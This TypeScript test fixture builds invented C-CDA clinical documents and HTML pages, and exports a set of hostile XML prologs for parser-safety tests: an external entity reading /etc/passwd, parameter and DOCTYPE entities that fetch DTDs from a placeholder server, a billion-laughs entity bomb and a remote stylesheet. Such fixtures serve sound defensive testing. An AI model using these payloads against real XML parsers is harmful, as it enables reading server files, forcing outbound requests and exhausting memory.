/**
 * Markup for tests: a small C-CDA and a small page, and what hostile ones hold.
 */

/** A C-CDA whose only section holds this narrative. `prolog` stands in front of its root. */
export function aCda({ narrative = '<paragraph>HbA1c 9.1 %</paragraph>', prolog = '<?xml version="1.0" encoding="UTF-8"?>' } = {}): string {
  return `${prolog}
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <realmCode code="US"/>
  <typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>
  <templateId root="2.16.840.1.113883.10.20.22.1.2"/>
  <id root="2.16.840.1.113883.19.5" extension="invented"/>
  <code code="34133-9" codeSystem="2.16.840.1.113883.6.1"/>
  <title>Invented summary</title>
  <effectiveTime value="20260901"/>
  <recordTarget><patientRole><id root="2.16.840.1.113883.19" extension="1"/><patient>
    <name><given>Invented</given><family>Person</family></name><birthTime value="19700101"/>
  </patient></patientRole></recordTarget>
  <component><structuredBody><component><section>
    <code code="30954-2" codeSystem="2.16.840.1.113883.6.1"/>
    <title>Results</title>
    <text>${narrative}</text>
  </section></component></structuredBody></component>
</ClinicalDocument>
`;
}

/** A web page with this body. */
export function aPage(body: string, head = '<title>Invented note</title>'): string {
  return `<!DOCTYPE html>\n<html><head><meta charset="utf-8">${head}</head><body>${body}</body></html>\n`;
}

const laughs = Array.from({ length: 9 }, (_each, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

/** Prologs that let a careless parser read files, call servers or run out of memory. */
export const evilPrologs = {
  externalEntity: '<?xml version="1.0"?><!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  parameterEntity: '<?xml version="1.0"?><!DOCTYPE ClinicalDocument [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>',
  internalEntity: '<?xml version="1.0"?><!DOCTYPE ClinicalDocument [<!ENTITY x "replaced">]>',
  billionLaughs: `<?xml version="1.0"?><!DOCTYPE ClinicalDocument [<!ENTITY l0 "ha">${laughs}]>`,
  externalDoctype: '<?xml version="1.0"?><!DOCTYPE ClinicalDocument SYSTEM "http://192.0.2.1/cda.dtd">',
  stylesheet: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://192.0.2.1/CDA.xsl"?>',
} as const;
